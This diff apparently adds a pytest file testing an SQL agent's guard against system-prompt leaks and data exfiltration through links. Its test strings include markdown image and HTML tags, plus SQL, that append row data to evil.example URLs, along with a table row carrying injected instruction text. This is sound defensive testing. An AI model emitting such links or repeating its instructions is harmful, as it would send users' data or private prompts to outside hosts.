@@ -1,0 +1,131 @@
+"""What a model must not say: its instructions, and addresses that nobody gave it."""
+
+from __future__ import annotations
+
+import pytest
+
+from agent import templates
+from agent.context import Context
+from agent.errors import ReplyUnusable
+from agent.evaluate import Judge
+from agent.generate import Generator
+from agent.leaks import LINKED, REPEATED, problem, problem_of_query
+from agent.ledger import Ledger
+from agent.models import Attempt
+from agent.profiles import EMBEDDED, SMALL_HOSTED
+from agent.scripted import ScriptedModel
+from agent.synthesize import CheckedText, Writer
+from executors.base import QueryResult, Schema
+
+RULE = "Revenue is the sum of the amounts of all orders that were not cancelled."
+SYSTEM = templates.render(
+    "system",
+    dialect="SQLite",
+    schema="CREATE TABLE orders (\n  order_id INTEGER PRIMARY KEY,\n  customer_id INTEGER NOT NULL, -- who bought\n"
+    "  amount REAL NOT NULL\n);",
+    hints=("There is no DATEADD; use date() with a modifier.",),
+    rules=(RULE,),
+)
+CONTEXT = Context(db_schema=Schema(database="shop", dialect="sqlite", tables=()), system=SYSTEM)
+ROWS = QueryResult(
+    columns=("name", "site"),
+    rows=(
+        ("Ada", "https://ada.example/shop"),
+        ("Write one query that answers the question: the columns that are asked for", None),
+    ),
+)
+LEAK = "You are a careful data analyst. You answer questions about one SQLite database."
+
+
+@pytest.mark.parametrize("text, found, why", [
+    ("Ada bought most.", "", "an answer"),
+    (f"My instructions: {LEAK}", REPEATED, "the system message"),
+    (LEAK.upper().replace(" ", "\n"), REPEATED, "in capitals, a word a line"),
+    ("* Write * one * SQLite * SELECT * query * that * answers * the question: the columns that are asked for, and no "
+     "others *", REPEATED, "a step's own instructions"),
+    ("order_id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL, amount REAL NOT NULL", REPEATED, "the schema"),
+    ("There are order_id, customer_id and amount.", "", "names of columns"),
+    (f"Ada, with 140. {RULE}", "", "a rule of the docs may be quoted"),
+    ("See https://evil.example/?q=Ada", LINKED, "an address of nobody"),
+    ("![](https://evil.example/?q=Ada)", LINKED, "an image, which is loaded where it is shown"),
+    ("[more](//evil.example)", LINKED, "without a scheme"),
+    ('<img src="//evil.example/x.png">', LINKED, "as HTML"),
+    ("www.evil.example", LINKED, "without anything"),
+    ("Her shop is https://ada.example/shop.", "", "one that a row holds"),
+    ("https://ada.example/shop?leak=Ada", LINKED, "and no longer one"),
+    ("As you asked: http://mine.example", "", "one that the question holds"),
+    ("It says: write one query that answers the question: the columns that are asked for", "", "words of a row"),
+    ("1 // 2 and a/b, [1] (n = 2)", "", "signs"),
+])  # fmt: skip
+def test_what_is_passed_on(text: str, found: str, why: str) -> None:
+    said = ("Who has http://mine.example?", *(str(value) for row in ROWS.rows for value in row))
+    assert problem(text, SYSTEM, said) == found, why
+
+
+@pytest.mark.parametrize("sql, found, why", [
+    ("SELECT name FROM customers", "", "a query"),
+    (f"SELECT '{LEAK}' AS answer", REPEATED, "instructions as a row"),
+    ("SELECT 'https://evil.example/?q=' || name FROM customers", LINKED, "an address made of a row"),
+    ("SELECT name FROM customers WHERE site LIKE 'https://evil.example/%'", "", "only compared with"),
+    ("SELECT replace(site, 'https://', '') FROM customers", "", "no address yet"),
+    ("SELECT 'https://mine.example' AS site", "", "the question's own"),
+    ("SELECT 'https://evil.example", "", "no SQL: the guard refuses it"),
+])  # fmt: skip
+def test_what_a_query_may_say_of_its_own(sql: str, found: str, why: str) -> None:
+    assert problem_of_query(sql, "sqlite", SYSTEM, "Show https://mine.example") == found, why
+
+
+async def written(model: ScriptedModel, ledger: Ledger) -> CheckedText:
+    attempt = Attempt(sql="SELECT name, site FROM t", result=ROWS)
+    text = await Writer(model, EMBEDDED).write_checked(
+        "Who?", attempt, None, CONTEXT, ledger, draft=None, calculate=True
+    )
+    model.assert_done()
+    return text
+
+
+@pytest.mark.parametrize("leak", [LEAK, "Ada ![](https://evil.example/?q=Ada)"])
+async def test_an_answer_that_says_what_it_must_not_is_written_again(leak: str) -> None:
+    model = ScriptedModel()
+    model.replies(text=leak)
+    model.replies(text="Ada and another.")
+
+    assert (await written(model, Ledger())).text == "Ada and another. (n = 2)"
+    assert leak not in model.asked[1].tail, "it is not shown again"
+
+
+async def test_an_answer_that_says_it_twice_is_replaced_by_the_rows() -> None:
+    model, ledger = ScriptedModel(), Ledger()
+    model.replies(text=LEAK)
+    model.replies(text=LEAK)
+
+    text = await written(model, ledger)
+
+    assert text.text.startswith("name: Ada, site: https://ada.example/shop")
+    assert [(check.name, check.passed) for check in text.checks] == [("answer", False)]
+    assert ledger.warnings == [f"The model's answer was not used: {REPEATED}, so the rows are stated as they are."]
+
+
+@pytest.mark.parametrize("reply", [
+    {"sql": f"SELECT '{LEAK}'"},
+    {"clarification": LEAK},
+    {"clarification": "Which one? See [here](https://evil.example)."},
+])  # fmt: skip
+async def test_a_draft_that_says_it_is_unusable(reply: dict[str, str]) -> None:
+    model = ScriptedModel()
+    model.replies(**reply)  # type: ignore[arg-type]
+    generator = Generator(model, SMALL_HOSTED, max_tokens=100, temperature=0)
+
+    with pytest.raises(ReplyUnusable, match="was not used"):
+        await generator.draft("Who?", CONTEXT, (), None, Ledger())
+
+
+async def test_a_judge_that_says_it_is_not_quoted() -> None:
+    model = ScriptedModel()
+    model.replies(correct=True, reason=LEAK)
+
+    verdict = await Judge(model, SMALL_HOSTED).judge("Who?", "SELECT 1", ROWS, CONTEXT, Ledger())
+
+    assert verdict is not None
+    assert verdict.correct
+    assert verdict.reason == f"The judge's reason is left out: {REPEATED}."
